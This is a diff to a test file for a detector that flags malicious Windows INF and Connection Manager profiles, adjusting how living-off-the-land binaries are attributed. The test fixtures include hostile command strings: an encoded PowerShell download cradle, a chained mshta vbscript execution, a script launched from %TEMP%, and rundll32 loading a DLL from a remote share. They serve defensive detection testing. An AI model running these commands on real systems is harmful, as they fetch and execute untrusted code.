@@ -183,7 +183,8 @@ test('obfuscated template: %strings% in directive values, continuations, carets 
   assert.equal(r.commands[0]!.command, 'cmd /c start %TEMP%\\x.vbs', 'the continuation joins the next line');
   assert.deepEqual(r.commands[0]!.userWritable, ['%TEMP%']);
   assert.equal(r.commands[1]!.obfuscated, true);
-  assert.deepEqual(r.commands[1]!.lolbins, ['cmstp.exe']);
+  assert.deepEqual(r.commands[1]!.lolbins, [], 'cmstp.exe is what taskkill kills, not a program it runs');
+  assert.deepEqual(r.commands[0]!.lolbins, ['cmd.exe']);
   for (const c of ['uac-bypass-template', 'command-user-writable', 'command-obfuscated', 'kills-cmstp']) assert.ok(codes(r).includes(c), c);
   assert.equal(r.verdict, 'malicious');
   // %TEMP% is left for cmd.exe to expand, and said so.
@@ -223,6 +224,9 @@ test('a profile starting only Connection Manager binaries is low; the same with 
   const ps = analyzeInf(ansi(profile('powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA')));
   assert.equal(ps.level, 'high');
   assert.ok(codes(ps).includes('command-obfuscated'));
+  const chained = analyzeInf(ansi(profile('C:\\Contoso\\helper.exe /q & cmd.exe /c start "" /min mshta.exe vbscript:Close(Execute("x"))')));
+  assert.deepEqual(chained.commands[0]!.lolbins, ['cmd.exe', 'mshta.exe'], 'programs behind & , cmd /c and start');
+  assert.equal(chained.commands[0]!.program, 'helper');
   const remote = analyzeInf(ansi(profile('rundll32.exe \\\\198.51.100.7\\share\\x.dll,Start')));
   assert.deepEqual(remote.commands[0]!.remote, ['\\\\198.51.100.7\\share\\x.dll']);
 });
